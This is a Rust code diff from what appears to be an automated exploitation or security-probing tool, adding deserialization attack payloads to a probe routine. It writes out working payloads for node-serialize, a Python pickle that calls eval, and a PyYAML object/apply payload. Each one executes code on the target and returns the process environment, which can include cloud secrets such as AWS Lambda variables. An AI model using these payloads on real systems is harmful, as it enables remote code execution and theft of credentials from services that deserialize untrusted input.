@@ -5,6 +5,8 @@ use crate::flow::{self, Sinks};
 use crate::probe::{self, Probe};
 use crate::{Attack, source};
 use crate::{Profile, Proved, Reason, Risk};
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
 use model::attack::Outcome;
 use model::code::{EventSource, Flow, SinkKind};
 use model::{App, Finding, Fix, Foothold, Target};
@@ -68,13 +70,31 @@ fn fix(app: &App, flow: &Flow) -> Option<Fix> {
     Some(Fix { says: says.into(), safe: false, edits: vec![edit], then: None })
 }
 
+/// An expression of Python: a text with the environment that also answers as an object of any class would whose fields were asked for.
+macro_rules! object {
+    () => {
+        concat!(
+            "type(\"x\",(str,),{\"__getitem__\":lambda s,k:s,\"__getattr__\":lambda s,k:s,\"get\":lambda s,*k:s})",
+            "(dict(__import__(\"os\").environ))"
+        )
+    };
+}
+
+/// A pickle (protocol 0, which is plain text) that calls `eval`.
+const PICKLE: &str = concat!("cbuiltins\neval\n(S'", object!(), "'\ntR.");
+/// The same for readers of YAML that make objects (PyYAML's `Loader` and `UnsafeLoader`).
+const YAML: &str = concat!("!!python/object/apply:builtins.eval ['", object!(), "']");
+
 /// A function that is called while it is read (node-serialize): the next text that is made is an answer with the environment, and
 /// everything is as it was after that.
-const PAYLOADS: [&str; 1] = [concat!(
+const NODE_SERIALIZE: &str = concat!(
     "{\"x\":\"_$$ND_FUNC$$_function(){var s=JSON.stringify;JSON.stringify=function(){JSON.stringify=s;",
     "return s({statusCode:200,body:s(process.env)})}}()\"}"
-)];
+);
 
 fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
-    probe::run(app, findings, target, outcome, &Probe { takes, payloads: &PAYLOADS, shows: "AWS_LAMBDA_FUNCTION_NAME" });
+    // A pickle is bytes, which travel as base64.
+    let encoded = STANDARD.encode(PICKLE);
+    let payloads = [NODE_SERIALIZE, &encoded, PICKLE, YAML];
+    probe::run(app, findings, target, outcome, &Probe { takes, payloads: &payloads, shows: "AWS_LAMBDA_FUNCTION_NAME" });
 }
